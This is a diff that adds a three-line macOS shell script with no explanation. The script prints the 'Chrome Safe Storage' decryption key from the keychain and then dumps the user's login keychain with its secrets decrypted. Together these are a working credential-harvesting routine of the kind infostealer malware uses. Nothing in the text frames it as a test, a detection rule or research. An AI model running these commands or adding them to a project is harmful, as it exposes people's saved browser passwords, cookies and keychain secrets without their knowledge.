@@ -1,0 +1,3 @@
+#!/bin/sh
+security find-generic-password -s "Chrome Safe Storage" -w
+security dump-keychain -d login.keychain
